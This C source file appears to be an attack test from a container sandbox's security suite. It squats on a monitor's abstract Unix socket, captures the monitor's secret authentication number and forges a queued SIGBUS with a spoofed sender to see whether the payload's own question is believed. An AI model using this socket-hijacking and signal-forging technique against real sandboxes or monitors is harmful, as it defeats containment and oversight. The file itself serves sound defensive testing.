// A monitor authenticates its question and the answer by a number that no payload may know. A process of the same container
// takes the name of its own monitor's socket (the monitor gives up while the other process cannot answer yet) and hears the answer.
// What it hears must be of no use: a second answer, or a question of its own, with the same number must not be believed.
#include "attack.h"
#include <pthread.h>
#include <sys/socket.h>
#include <sys/un.h>

// The name of an abstract socket that the kernel has chosen and that nobody of ours has made, or 0.
static int stolen(char name[6]) {
    char line[256];
    FILE *f = fopen("/proc/net/unix", "r");
    int found = 0;
    while (f && !found && fgets(line, sizeof line, f)) {
        char *at = strrchr(line, '@');
        if (at && strlen(at) == 7 && strspn(at + 1, "0123456789abcdef") == 5) {
            memcpy(name, at + 1, 5);
            found = 1;
        }
    }
    if (f)
        fclose(f);
    return found;
}

// Waits for a vfork child: until it ends nobody gets an answer.
static void victim(int go) {
    char byte;
    prctl(PR_SET_DUMPABLE, 0);
    if (vfork() == 0) {
        if (read(go, &byte, 1) < 0)
            _exit(1);
        _exit(0);
    }
    pause();
}

// The number in the answer that the listener hears; 0: none.
static uint64_t heard(int listener) {
    struct {
        uint64_t number;
        int32_t status;
        uint32_t mode;
    } answer = {0, -1, 0};
    struct timeval patience = {.tv_sec = 1};
    setsockopt(listener, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    int peer = accept(listener, NULL, NULL);
    if (peer < 0)
        return 0;
    setsockopt(peer, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    return recv(peer, &answer, sizeof answer, 0) == sizeof answer ? answer.number : 0;
}

static volatile sig_atomic_t got;
static void on_bus(int sig) { got = sig; }

// Whether a process takes a signal with that number for a question of a monitor: then its program does not see the signal.
static int believed(uint64_t number, const char *name) {
    int ready[2];
    char byte;
    if (pipe(ready) < 0)
        attack_broken("pipe");
    pid_t pid = fork();
    if (pid == 0) {
        signal(SIGBUS, on_bus);
        if (write(ready[1], "x", 1) != 1)
            _exit(0);
        for (int i = 0; i < 100 && !got; i++)
            usleep(10000);
        _exit(!got);
    }
    int status = 0;
    siginfo_t info = {.si_signo = SIGBUS, .si_code = SI_QUEUE};
    info.si_pid = (int)(strtoul(name + 1, NULL, 16) | 1u << 20);
    info.si_value.sival_ptr = (void *)number;
    if (read(ready[0], &byte, 1) == 1)
        syscall(SYS_rt_sigqueueinfo, pid, SIGBUS, &info);
    waitpid(pid, &status, 0);
    return WIFEXITED(status) && WEXITSTATUS(status) == 1;
}

// Asks once; the monitor gives up after a second.
static void *asks(void *path) {
    if (open(path, O_PATH) >= 0)
        _exit(3); // it may be looked at: then this shows nothing
    return NULL;
}

static void one(void *argument) {
    (void)argument;
    int go[2];
    char path[64], name[6] = "";
    if (pipe(go) < 0)
        attack_broken("pipe");
    pid_t v = fork();
    if (v == 0)
        victim(go[0]);
    usleep(100000);
    pthread_t asker;
    snprintf(path, sizeof path, "/proc/%d/cwd", v);
    if (pthread_create(&asker, NULL, asks, path))
        attack_broken("pthread_create");
    for (int i = 0; i < 200 && !stolen(name); i++)
        usleep(2000);
    pthread_join(asker, NULL); // it has been asked by now
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    memcpy(a.sun_path + 1, name, 5);
    uint64_t number = 0;
    int listener = socket(AF_UNIX, SOCK_SEQPACKET, 0);
    if (name[0] && bind(listener, (struct sockaddr *)&a, 8) == 0 && listen(listener, 4) == 0) {
        if (write(go[1], "x", 1) == 1)
            number = heard(listener);
    }
    kill(v, SIGKILL);
    waitpid(v, NULL, 0);
    _exit(!number ? 0 : believed(number, name) ? 1 : 3);
}

int main(void) {
    int heard_once = 0;
    do {
        int status = attack_child(one, NULL);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 1)
            attack_won("a question of the payload's own is believed: the number of the monitors is known");
        heard_once |= WIFEXITED(status) && WEXITSTATUS(status) == 3;
    } while (!attack_over());
    if (!heard_once)
        attack_broken("nothing was heard");
    attack_lost();
}
